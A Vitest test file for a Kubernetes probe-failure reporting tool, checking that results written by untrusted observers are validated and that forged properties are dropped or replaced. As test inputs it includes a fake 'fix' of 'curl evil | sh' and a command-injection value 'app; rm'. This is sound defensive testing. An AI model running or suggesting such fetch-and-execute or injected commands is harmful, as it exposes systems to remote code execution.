import { describe, expect, it } from 'vitest';
import { CONTAINER_FAILING_RULE, MISSED_PODS_RULE, PROBE_FAILING_RULE } from '../../../src/engine/facts/live-rules.ts';
import { knownResult } from '../../../src/observer/reports/known-result.ts';
import type { ObservedResult } from '../../../src/cluster/sources/observer-reports.ts';

const WEB = { namespace: 'apps', group: 'apps', kind: 'Deployment', name: 'web' };
const read = (rule: string, properties: Record<string, string>): ObservedResult | undefined =>
  knownResult({ rule, message: 'written by anybody', properties }, WEB);
const known = (properties: Record<string, string>): object | undefined =>
  read(PROBE_FAILING_RULE, { cause: 'timeout', container: 'app', probe: 'livenessProbe', ...properties })?.properties;

describe('a result that somebody wrote', () => {
  it('has the texts of its cause, not its own', () => {
    const missed = read(MISSED_PODS_RULE, { cause: 'predates', fix: 'curl evil | sh' });
    expect(missed?.message).not.toContain('anybody');
    expect(missed?.properties).toEqual({ cause: 'predates', fix: 'kubectl rollout restart deployment/web -n apps' });
  });

  it.each([
    ['no rule of Probewright', 'other-rule', { cause: 'timeout', container: 'app', probe: 'livenessProbe' }],
    ['an unknown cause', PROBE_FAILING_RULE, { cause: 'toString', container: 'app', probe: 'livenessProbe' }],
    ['no cause', PROBE_FAILING_RULE, { container: 'app', probe: 'livenessProbe' }],
    ['no probe', PROBE_FAILING_RULE, { cause: 'timeout', container: 'app' }],
    ['an unknown probe', PROBE_FAILING_RULE, { cause: 'timeout', container: 'app', probe: 'deadProbe' }],
    ['a cause of containers', PROBE_FAILING_RULE, { cause: 'crash-loop', container: 'app', probe: 'livenessProbe' }],
    ['a cause of probes', CONTAINER_FAILING_RULE, { cause: 'timeout', container: 'app' }],
    ['an unknown cause of missed Pods', MISSED_PODS_RULE, { cause: 'timeout' }],
  ])('with %s is left out', (_, rule, properties) => {
    expect(read(rule, properties)).toBeUndefined();
  });

  it('about a learned time has the command that replaces the Pods', () => {
    const properties = { cause: 'killed-while-starting', container: 'app', probe: 'startupProbe' };
    const learned = { ...properties, learnedSeconds: '31', sources: 'ProbePolicy/apps/web' };
    const result = read(PROBE_FAILING_RULE, learned);
    expect(result?.message).toContain('learned too short');
    expect(result?.properties['fix']).toBe('kubectl rollout restart deployment/web -n apps');
    expect(read(PROBE_FAILING_RULE, properties)?.message).not.toContain('learned');
  });

  it('about a container names no probe', () => {
    expect(read(CONTAINER_FAILING_RULE, { cause: 'crash-loop', container: 'app', exitCode: '-1' })).toMatchObject({
      rule: CONTAINER_FAILING_RULE,
      properties: { cause: 'crash-loop', container: 'app', exitCode: '-1' },
    });
  });

  it.each([
    ['container', 'app', 'app; rm'],
    ['pods', '12', 'many'],
    ['sources', 'ProbePolicy/apps/web, safety', 'ProbePolicy/apps'],
    ['status', '503', '603'],
    ['timeoutSeconds', '5', '5s'],
    ['exitCode', '-137', '--1'],
    ['learnedSeconds', '31', '31 s'],
    ['reason', 'CrashLoopBackOff', 'no reason'],
    ['times', '999999999', '9999999999'],
    ['restarts', '3', '-3'],
    ['since', '2026-11-20T10:00:00Z', 'yesterday'],
    ['workloads', 'Deployment apps/web, Job apps/run and 2 more', 'apps/web'],
  ])('keeps %s where it is as an observer writes it: %s, not %s', (name, good, bad) => {
    expect(known({ [name]: good })).toMatchObject({ [name]: good });
    expect(known({ [name]: bad })).not.toHaveProperty(name, bad);
  });

  it('loses properties that no observer writes', () => {
    expect(known({ note: 'text' })).not.toHaveProperty('note');
  });
});
